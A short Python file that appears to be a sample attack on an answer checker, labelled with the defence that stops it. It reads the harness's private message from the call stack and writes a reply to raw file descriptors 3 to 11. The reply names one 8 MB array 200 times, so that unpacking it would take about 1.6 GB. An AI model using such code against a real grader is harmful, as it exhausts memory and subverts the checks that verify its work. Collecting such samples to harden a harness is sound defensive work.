"""Answer with one array of 8 MB, named two hundred times over: the checker would unpack 1.6 GB."""
# stopped by: messages
# says: arrays that share their bytes

import io
import json
import os
import struct
import sys

import numpy


def vector(x):
    frame = sys._getframe()
    while "message" not in frame.f_locals:
        frame = frame.f_back
    array = io.BytesIO()
    numpy.lib.format.write_array(array, numpy.zeros(2**20))
    blobs = array.getvalue()
    value = {"list": [{"array": [0, len(blobs)]}] * 200}
    text = json.dumps({"n": frame.f_locals["message"]["n"], "value": value}).encode()
    for descriptor in range(3, 12):
        content = memoryview(struct.pack(">II", len(text), len(blobs)) + text + blobs)
        try:
            while content:
                content = content[os.write(descriptor, content) :]
        except OSError:
            pass
